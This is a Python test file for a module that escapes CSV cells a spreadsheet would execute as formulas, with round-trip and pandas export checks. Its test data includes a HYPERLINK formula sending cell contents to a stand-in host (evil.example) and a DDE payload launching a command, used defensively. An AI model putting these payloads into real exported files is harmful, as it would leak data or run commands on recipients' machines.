"""Cells a spreadsheet would run are escaped, and the escape is undone exactly."""
import io

import pandas as pd
from hypothesis import given
from hypothesis import strategies as st

from evaluation.csv_cells import escape_cell, safe_csv_writer, safe_frame_csv, unescape_cell, unescape_frame

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\tpadded", "\rreturned"]


def test_cells_that_would_run_get_an_apostrophe_and_plain_values_do_not():
    assert [escape_cell(value) for value in HOSTILE] == ["'" + value for value in HOSTILE]
    assert [escape_cell(value) for value in ["-0.25", "+3", "-1e-05", "alpha", "", "a=b"]] == \
        ["-0.25", "+3", "-1e-05", "alpha", "", "a=b"]
    assert escape_cell(-0.25) == -0.25
    # An apostrophe already there is doubled, so reading back cannot mistake it for the escape.
    assert escape_cell("'=quoted") == "''=quoted"


@given(st.text())
def test_unescape_undoes_escape_for_every_string(value):
    assert unescape_cell(escape_cell(value)) == value


def test_writer_and_frame_csv_escape_every_cell_and_read_back_exactly():
    stream = io.StringIO()
    safe_csv_writer(stream).writerow(HOSTILE + ["'=x", "fine"])
    assert stream.getvalue().startswith('"\'=HYPERLINK(')
    assert ",'+cmd|' /C calc'!A0,'-2+3,'@SUM(A1:A9)," in stream.getvalue()
    frame = pd.DataFrame({"method": HOSTILE[:5], "delta": [-0.5, 0.25, 1.0, -2.0, 0.0], "=col": ["x"] * 5})
    text = safe_frame_csv(frame, index=False)
    assert text.splitlines()[0] == "method,delta,'=col"
    assert "\n'+cmd|" in text and "\n\"'=HYPERLINK(" in text and ",-0.5," in text
    back = unescape_frame(pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False))
    assert back["method"].tolist() == HOSTILE[:5]
    assert list(back.columns) == ["method", "delta", "=col"]


def test_line_breaks_inside_cells_are_quoted_and_read_back():
    cells = ["carriage\rreturn", "line\nfeed", "both\r\nends", "\rstarts"]
    stream = io.StringIO()
    safe_csv_writer(stream).writerow(cells)
    assert stream.getvalue() == '"carriage\rreturn","line\nfeed","both\r\nends","\'\rstarts"\r\n'
    text = safe_frame_csv(pd.DataFrame({"text": cells, "n": [1, 2, 3, 4]}), index=False)
    back = unescape_frame(pd.read_csv(io.StringIO(text, newline=""), dtype=str, keep_default_na=False))
    assert back["text"].tolist() == cells and back["n"].tolist() == ["1", "2", "3", "4"]
